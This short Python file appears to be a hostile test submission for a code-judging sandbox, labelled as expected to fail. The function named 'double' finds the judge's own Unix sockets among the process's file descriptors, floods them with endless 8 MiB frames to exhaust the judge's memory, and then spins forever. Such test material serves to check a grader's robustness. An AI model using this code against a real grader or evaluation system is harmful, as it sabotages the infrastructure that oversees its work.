# Writes one message of endless frames straight to the judge's sockets, to fill the judge's memory. Expected: failed.
import contextlib
import os
import socket
import struct
import threading

FRAME = struct.pack(">BQ", 3, 2**23) + bytes(2**23)  # a large frame, and more to come


def flood(link):
    with contextlib.suppress(OSError):
        while True:
            link.sendall(FRAME)


def double(x):
    for number in map(int, os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError, TypeError):
            link = socket.socket(fileno=os.dup(number))
            quiet = link.getsockname() in ("/run/sockets/k-3", "/run/sockets/k-5")
            if quiet and not link.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                link.setblocking(True)
                threading.Thread(target=flood, args=[link], daemon=True).start()
    while True:
        pass
